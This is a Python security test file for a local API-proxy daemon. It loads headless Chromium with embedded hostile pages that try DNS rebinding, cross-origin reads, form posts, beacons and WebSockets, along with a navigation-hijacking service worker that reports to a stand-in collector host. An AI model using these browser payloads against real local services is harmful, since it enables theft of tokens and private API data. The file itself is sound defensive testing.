"""A page in a real browser that wants what the daemon gives. It comes from http://evil.example, whose name then leads
to the daemon's own port (DNS rebinding), and it tries everything that a page can send: none of it may reach the
upstream. Its twin is the same page with evil.example among the allowed hosts, which does get through.

And APIs that have pages of their own: documentation and a notebook work whole where a browser is led to when a person
types the address that tools use, and the page of one API gets at no other."""

import base64
import hashlib
import json
import threading
import time

from harness import (PATIENCE, Handler, Server, StandIns, Valetd, ask, check, eventually, folder, must, need, same,
                     spawn)

# Every attempt names itself in the path, so that what arrives can be told apart.
PAGE = """<!DOCTYPE html><title>evil</title><body><script>
const collector = 'http://collector.example:%(collector)d', port = %(port)d;
const report = (what, found) =>
  fetch(`${collector}/report`, {method: 'POST', body: JSON.stringify([what, String(found)])});
const pause = (ms) => new Promise((done) => setTimeout(done, ms));
const settled = (start) => Promise.race([new Promise(start), pause(2000).then(() => 'nothing')]);
const bases = ['', `http://127.0.0.1:${port}`, `http://localhost:${port}`, `http://api.localhost:${port}`,
               `http://rebound.example:${port}`, `http://[::1]:${port}`];
const tag = (name, url) => settled((done) => {
  const element = document.createElement(name);
  element.onload = () => done('loaded'); element.onerror = () => done('error');
  if (name === 'link') { element.rel = 'stylesheet'; element.href = url; } else element.src = url;
  document.body.append(element);
});
let forms = 0;
const form = (method, url) => settled((done) => {
  const [form, frame] = [document.createElement('form'), document.createElement('iframe')];
  frame.name = form.target = `frame${forms++}`;
  form.action = url; form.method = method;
  document.body.append(frame, form);
  frame.onload = () => done('loaded');
  form.submit();
});
const read = (url, how) => Promise.race([pause(2000).then(() => 'nothing'), fetch(url, how).then(async (answer) =>
  `${answer.type} ${answer.status} ${(await answer.text()).slice(0, 60)}`, (error) => error.message)]);
const attempts = {
  get: (url) => read(url),
  no_cors: (url) => read(url, {mode: 'no-cors', credentials: 'include'}),
  post: (url) => read(url, {method: 'POST', body: 'x', mode: 'no-cors'}),
  json: (url) => read(url, {method: 'PUT', body: '{}', headers: {'Content-Type': 'application/json'}}),
  header: (url) => read(url, {headers: {Authorization: 'Bearer x', 'X-Own': '1'}}),
  xhr: (url) => settled((done) => {
    const request = new XMLHttpRequest();
    request.onloadend = () => done(`${request.status} ${request.responseText.slice(0, 60)}`);
    request.open('GET', url); request.send();
  }),
  beacon: (url) => navigator.sendBeacon(url, 'x'),
  img: (url) => tag('img', url), script: (url) => tag('script', url), iframe: (url) => tag('iframe', url),
  style: (url) => tag('link', url), video: (url) => tag('video', url),
  form_get: (url) => form('GET', url), form_post: (url) => form('POST', url),
  events: (url) => settled((done) => {
    const source = new EventSource(url);
    source.onopen = () => done('open'); source.onerror = () => { source.close(); done('error'); };
  }),
  websocket: (url) => settled((done) => {
    const socket = new WebSocket(new URL(url, location).href.replace('http', 'ws'));
    socket.onopen = () => done('open'); socket.onerror = () => done('error');
  }),
};
(async () => {
  fetch('/loaded').catch(() => {});
  // by now the name leads elsewhere
  while (await fetch(`${collector}/go`).then((answer) => answer.text()) !== 'go') await pause(50);
  for (const [name, attempt] of Object.entries(attempts)) {
    const found = await Promise.all(bases.map((base, number) => {
      const paths = base.includes('api.localhost') ? [`/${name}-${number}`] : [`/api/${name}-${number}`];
      return Promise.all(paths.map((path) => attempt(base + path)));
    }));
    await report(name, found.join(' | '));
  }
  await report('status', await read('/v1/status'));
  await report('done', '');
  location = `/api/navigation`;
})();
</script>"""


class Evil(Handler):
    """Serves the page, then makes room for the daemon on its port."""

    def do_GET(self):
        if self.path == "/loaded":
            self.close_connection = True
            self.server.loaded.set()
            return self.answer(200, Connection="close")
        self.answer(200, self.server.page, "text/html", Connection="close")
        self.close_connection = True


class Collector(Handler):
    """Where the page says what it could read."""

    def do_GET(self):
        self.answer(200, b"go" if self.server.go.is_set() else b"wait", Access_Control_Allow_Origin="*")

    def do_POST(self):
        what, found = json.loads(b"".join(self.body()))
        self.server.reports[what] = found
        self.answer(200, Access_Control_Allow_Origin="*")


class Api(Handler):
    """Anything with a token is welcome. Notes what has arrived."""

    def do_GET(self):
        b"".join(self.body())
        self.answer(200, b"the secret answer of the API")

    do_POST = do_PUT = do_GET


def visit(valetd, api, number):
    """Lets the page run against the daemon, which is not running yet; returns what the page reported and what the
    upstream has seen."""
    collector = Server(Collector)
    collector.go, collector.reports = threading.Event(), {}
    evil = Server(Evil, port=valetd.port)
    evil.loaded = threading.Event()
    evil.page = (PAGE % {"collector": collector.port, "port": valetd.port}).encode()
    del api.seen[:]
    chromium = browse(f"http://evil.example:{valetd.port}/", f"chromium{number}")
    try:
        assert evil.loaded.wait(30), "the page is not loaded: " + (folder("chromium") / "log").read_text()[-500:]
        evil.end()
        eventually("the port is free, and the daemon on it", lambda: started(valetd))
        collector.go.set()
        try:
            eventually("the page is through with it", lambda: "done" in collector.reports, 45)
        except AssertionError:
            raise AssertionError(f"the page stopped after {collector.reports}") from None
        time.sleep(0.5)  # the last step, a navigation, has nobody left to report it
    finally:
        chromium.kill()
        chromium.wait()
    return collector.reports, [path for _, path, _ in api.seen]


def browse(url, profile):
    """Opens an address as if it had been typed."""
    # nothing but this machine can be found
    own = [f"EXCLUDE {name}" for name in ("127.0.0.1", "[::1]", "localhost", "*.localhost")]
    rules = ",".join(["MAP *.example 127.0.0.1", "MAP * ~NOTFOUND", *own])
    return spawn(
        [need("chromium"), "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
         "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync",
         "--no-proxy-server",
         "--disable-features=HttpsUpgrades,HttpsFirstBalancedMode", f"--user-data-dir={folder(profile)}",
         f"--host-resolver-rules={rules}", url],
        log=folder("chromium") / "log")


def started(valetd):
    try:
        return valetd.start()
    except (AssertionError, OSError):  # the browser's connections to the evil server linger
        return None


# ---- APIs with pages of their own ----------------------------------------------------------------------------------

# What pages say to the one who asks: `report` in all of them.
REPORT = """const collector = 'http://127.0.0.1:%d';
const report = (what, found) => fetch(`${collector}/report`, {method: 'POST', body: JSON.stringify([what, String(found)])});
const pause = (ms) => new Promise((done) => setTimeout(done, ms));
const settled = (start) => Promise.race([new Promise(start), pause(3000).then(() => 'nothing')]);
const text = (url, how) => Promise.race([pause(3000).then(() => 'nothing'),
  fetch(url, how).then(async (answer) => `${answer.status} ${await answer.text()}`, (error) => error.message)]);
"""

DOCS = """<!DOCTYPE html><title>docs</title><link rel="stylesheet" href="/static/style.css"><script src="app.js"></script>
<p id="p">text</p><a id="a" href="operations?tag=x">operations</a><a id="b" href="/docs/">back</a><script>
addEventListener('load', async () => {
  const color = getComputedStyle(document.getElementById('p')).color;
  const post = await text('/try', {method: 'POST', body: '{}', headers: {'Content-Type': 'application/json'}});
  localStorage.setItem('kept', 'here');
  const place = location.pathname.split('/').pop() + location.search;
  await report('docs ' + place, [location.origin, color, window.app, await text('/openapi.json'), post,
                                 localStorage.getItem('kept'), document.cookie].join(' | '));
  if (!location.search) document.getElementById('a').click();
});
</script>"""

NOTEBOOK = """<!DOCTYPE html><title>notebook</title><a id="a" href="/tree">tree</a><script>
addEventListener('load', async () => {
  const said = await settled((done) => {
    const socket = new WebSocket(`ws://${location.host}/api/kernels/1`);
    socket.onmessage = (message) => done(message.data);
    socket.onerror = () => done('error');
    socket.onopen = () => socket.send('1+1');
  });
  const worker = await navigator.serviceWorker.register('/sw.js').then(() => 'a worker', (error) => error.message);
  await report('notebook ' + location.pathname, [location.origin, said, worker].join(' | '));
  if (location.pathname === '/lab') document.getElementById('a').click();
});
</script>"""

# Every attempt names itself in the path.
ATTACK = """<!DOCTYPE html><title>attack</title><body><script>
const port = %d;
const bases = [`http://localhost:${port}/secret`, `http://127.0.0.1:${port}/secret`, `http://[::1]:${port}/secret`,
               `http://secret.localhost:${port}`, `http://evil.localhost:${port}/secret`,
               `http://tools.example:${port}/secret`, '/secret', '../secret'];
let forms = 0;
const attempts = {
  get: (url) => text(url), post: (url) => text(url, {method: 'POST', body: 'x'}),
  no_cors: (url) => text(url, {method: 'POST', body: 'x', mode: 'no-cors', credentials: 'include'}),
  put: (url) => text(url, {method: 'PUT', body: 'x'}),
  beacon: (url) => navigator.sendBeacon(url, 'x'),
  form: (url) => settled((done) => {
    const [form, frame] = [document.createElement('form'), document.createElement('iframe')];
    frame.name = form.target = `frame${forms++}`;
    form.action = url; form.method = 'POST';
    document.body.append(frame, form);
    frame.onload = () => { try { done(frame.contentDocument.body.innerText); } catch (error) { done(error.message); } };
    form.submit();
  }),
  frame: (url) => settled((done) => {
    const frame = document.createElement('iframe');
    frame.src = url;
    frame.onload = () => { try { done(frame.contentDocument.body.innerText); } catch (error) { done(error.message); } };
    document.body.append(frame);
  }),
  popup: (url) => settled((done) => {
    const popup = open(url);
    setTimeout(() => { try { done(popup.document.body.innerText); } catch (error) { done(error.message); } }, 1000);
  }),
  websocket: (url) => settled((done) => {
    const socket = new WebSocket(new URL(url, location).href.replace('http', 'ws'));
    socket.onopen = () => done('open'); socket.onerror = () => done('error');
  }),
};
(async () => {
  await report('origin', [self.origin, location.host].join(' | '));
  for (const [name, attempt] of Object.entries(attempts)) {
    const found = await Promise.all(bases.map((base, number) => attempt(`${base}/${name}-${number}`)));
    await report(name, found.join(' | '));
  }
  for (const script of ['sw.js', '/evil/sw.js', `http://localhost:${port}/evil/sw.js`]) {
    const register = async () => navigator.serviceWorker.register(script, {scope: '/'});
    await report(`worker ${script}`, await register().then((made) => `registered ${made.scope}`, (error) => error.message));
  }
  await report('done', '');
})();
</script>"""

WORKER = """addEventListener('install', () => skipWaiting());
addEventListener('activate', (event) => event.waitUntil(clients.claim()));
addEventListener('fetch', (event) => {
  if (event.request.mode === 'navigate') {
    event.respondWith(new Response("<script>%sreport('hijacked', location.href)</script>",
                                   {headers: {'Content-Type': 'text/html'}}));
  }
});"""


class Pages(Handler):
    """An API with pages. Whatever has a token is welcome; `server.pages` has text and type by path."""

    def do_GET(self):
        b"".join(self.body())
        key = self.headers.get("Sec-WebSocket-Key")
        if key:
            return self.echo(key)
        path = self.path.split("?")[0]
        body, kind = self.server.pages.get(path) or self.server.pages.get("*", ("nothing here", "text/plain"))
        self.answer(200, body.encode(), kind, Service_Worker_Allowed="/", Set_Cookie="of=the API; Path=/",
                    Access_Control_Allow_Origin="*")

    do_POST = do_PUT = do_GET

    def echo(self, key):
        """Switches to a WebSocket, and sends back one short message of it (RFC 6455)."""
        magic = key + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
        self.send_response(101)
        for name, value in {"Upgrade": "websocket", "Connection": "Upgrade", "Sec-WebSocket-Accept":
                            base64.b64encode(hashlib.sha1(magic.encode()).digest()).decode()}.items():
            self.send_header(name, value)
        self.end_headers()
        head = self.rfile.read(6)
        message = bytes(byte ^ head[2 + at % 4] for at, byte in enumerate(self.rfile.read(head[1] & 127)))
        self.wfile.write(bytes([0x81, len(message)]) + message)
        self.rfile.read(1)  # until the page goes
        self.close_connection = True


class Neighbours:
    """Four APIs behind one daemon, the third of which wants what the fourth has, and who hears what pages say."""

    def __init__(self, stand_ins):
        self.collector = Server(Collector)
        self.collector.go, self.collector.reports = threading.Event(), {}
        self.docs, self.notebook, self.evil, self.secret = (Server(Pages) for _ in range(4))
        routes = {"docs": self.docs, "notebook": self.notebook, "evil": self.evil, "secret": self.secret}
        self.config = 'hosts = ["tools.example"]\n' + stand_ins.config() + "".join(
            f'[route.{name}]\naccount = "{"gdh" if name == "secret" else "gbdx"}"\nupstream = "{api.url}"\n'
            for name, api in routes.items())
        self.valetd = Valetd(self.config)
        report = REPORT % self.collector.port
        self.worker = WORKER % report.replace("\n", " ").replace('"', "'").replace("`", "\\`").replace("${", "\\${")
        html = lambda page: (f"<script>{report}</script>{page}", "text/html")
        script = lambda text: (text, "text/javascript")
        self.docs.pages = {
            "/docs/": html(DOCS), "/docs/operations": html(DOCS), "/openapi.json": ('{"openapi": 3}', "application/json"),
            "/docs/app.js": script("window.app = 'app';"), "/try": ("tried", "text/plain"),
            "/static/style.css": ("p { color: rgb(1, 2, 3) }", "text/css")}
        self.notebook.pages = {"/lab": html(NOTEBOOK), "/tree": html(NOTEBOOK), "/sw.js": script("// nothing")}
        self.evil.pages = {"/page": html(ATTACK % self.valetd.port), "/sw.js": script(self.worker)}
        self.secret.pages = {"*": ("<p>the secret answer", "text/html")}

    def visit(self, url, last, profile):
        """Types an address and waits until a page reports `last`; what pages reported."""
        self.collector.reports.clear()
        chromium = browse(url, profile)
        try:
            eventually(f"a page reports {last}", lambda: last in self.collector.reports, 60)
        except AssertionError:
            raise AssertionError(f"{url}: there came {self.collector.reports}") from None
        finally:
            chromium.terminate()  # and it saves what it has
            chromium.wait(PATIENCE)
        return dict(self.collector.reports)


def pages(stand_ins):
    at = Neighbours(stand_ins)
    valetd = at.valetd.start()
    stand_ins.sign_in(valetd)
    shared = f"http://localhost:{valetd.port}"
    docs = "rgb(1, 2, 3) | app | 200 {\"openapi\": 3} | 200 tried | here | of=the API"
    with check("documentation works whole, typed at the address that tools use, and its links clicked"):
        for number, base in enumerate((shared, f"http://127.0.0.1:{valetd.port}")):
            reports = at.visit(f"{base}/docs/docs/", "docs operations?tag=x", f"docs{number}")
            for page in ("docs ", "docs operations?tag=x"):
                same(reports[page], f"http://docs.localhost:{valetd.port} | {docs}", page)
    with check("a notebook and its WebSocket work whole, typed there and clicked"):
        reports = at.visit(f"{shared}/notebook/lab", "notebook /tree", "notebook")
        for page in ("notebook /lab", "notebook /tree"):
            same(reports[page], f"http://notebook.localhost:{valetd.port} | 1+1 | a worker", page)
    # at its own origin; and sandboxed, where a browser says nothing of itself and is not led away
    for place, origin in ((shared, f"http://evil.localhost:{valetd.port} | evil.localhost:{valetd.port}"),
                          (f"http://tools.example:{valetd.port}", f"null | tools.example:{valetd.port}")):
        with check(f"the page of one API, opened at {place.rpartition(':')[0]}, gets at no other"):
            del at.secret.seen[:]
            reports = at.visit(f"{place}/evil/page", "done", "evil" + place[7:12])
            same(reports["origin"], origin, "where it is at home")
            readable = {what: found for what, found in reports.items() if "secret answer" in found}
            same(readable, {}, "what the page could read")
            # by a name of the setting `hosts` no browser says where a request comes from, so that nobody can tell what a
            # frame asks for from a tool's request: it arrives, and nobody can read the answer
            by_hosts = ("-5", "-6", "-7") if "tools" in place else ("-5",)
            seen = [(method, path) for method, path, _ in at.secret.seen
                    if not (method == "GET" and path.startswith(("/frame-", "/popup-")) and path.endswith(by_hosts))]
            same(seen, [], "what the other API has seen")
            workers = [found for found in reports.values() if found.startswith("registered")]
            assert all(f"//evil.localhost:{valetd.port}/" in found for found in workers), workers
    with check("no page has left a worker at the address that tools use"):
        reports = at.visit(f"{shared}/docs/docs/", "docs operations?tag=x", "evillocal")
        assert "hijacked" not in reports, reports
    with check("a worker that was left there before ends when it looks for its next version"):
        valetd.stop()
        before = Server(Pages, port=valetd.port)
        register = ("(async () => { await navigator.serviceWorker.register('/evil/sw.js', {scope: '/'}); "
                    "await navigator.serviceWorker.ready; await report('registered', location.href); })();")
        before.pages = {"/evil/sw.js": (at.worker, "text/javascript"),
                        "*": (f"<script>{REPORT % at.collector.port}{register}</script>", "text/html")}
        at.visit(f"{shared}/evil/", "registered", "worker")
        before.end()
        eventually("the port is free, and the daemon on it", lambda: started(valetd))
        for attempt in range(5):
            at.collector.reports.clear()
            chromium = browse(f"{shared}/docs/docs/", "worker")
            try:
                eventually("some page reports", lambda: "hijacked" in at.collector.reports or
                           "docs operations?tag=x" in at.collector.reports)
                time.sleep(3)  # a worker looks for its next version a second after the page has come
            finally:
                chromium.terminate()
                chromium.wait(PATIENCE)
            if "docs operations?tag=x" in at.collector.reports:
                break
        else:
            raise AssertionError(f"it stays: {at.collector.reports}")
    valetd.stop()


def main():
    stand_ins = StandIns()
    api = Server(Api)
    config = stand_ins.config() + f'[route.api]\naccount = "gbdx"\nupstream = "{api.url}"\n'
    valetd = Valetd(config).start()
    stand_ins.sign_in(valetd)
    valetd.stop()
    with check("a page, also by a rebound name, gets nothing through to the upstream"):
        need("chromium")
        reports, seen = visit(valetd, api, 1)
        same(seen, [], "what the upstream saw")
        assert len(reports) >= 17, f"the page did not try everything: {sorted(reports)}"
        readable = {what: found for what, found in reports.items() if "secret" in found or "open" in found}
        same(readable, {}, "what the page could read")
        assert '"check": "host"' in reports["get"], f"the daemon was not even asked: {reports['get']}"
        assert "accounts" not in reports["status"], reports["status"]
    with check("the twin: curl, on the same daemon, gets its answer"):
        need("chromium")
        for url in (valetd.url("api", "curl"), f"http://api.localhost:{valetd.port}/curl"):
            same(must([need("curl"), "-sS", "--fail-with-body", url]), "the secret answer of the API", url)
        same(len(api.seen), 2, "requests at the upstream")
    with check("the twin: with evil.example among the allowed hosts, the same page gets through"):
        need("chromium")
        valetd.stop()
        valetd.configure('hosts = ["evil.example"]\n' + config)
        reports, seen = visit(valetd, api, 2)
        assert "/get-0" in seen and "/img-0" in seen and "/navigation" in seen, seen
        assert "secret" in reports["get"], reports["get"]
        # and still nothing by other names, nor what says that it comes from another place
        foreign = [path for path in seen if not path.rstrip("?").endswith("-0") and path != "/navigation"]
        same(foreign, [], "what came across sites")
    with check("no answer of the daemon to a page carries a CORS field"):
        if valetd.stopped:  # without a browser, nobody has started it again
            valetd.start()
        origin = {"Origin": "http://evil.example"}
        preflight = origin | {"Access-Control-Request-Method": "PUT", "Access-Control-Request-Private-Network": "true"}
        for method, headers in (("GET", origin), ("OPTIONS", preflight)):
            status, fields, _ = ask(valetd.url("api", "x"), method, headers=headers)
            granted = [name for name in fields if name.lower().startswith("access-control-")]
            same((status, granted), (403, []), method)
    valetd.stop()
    pages(stand_ins)


main()
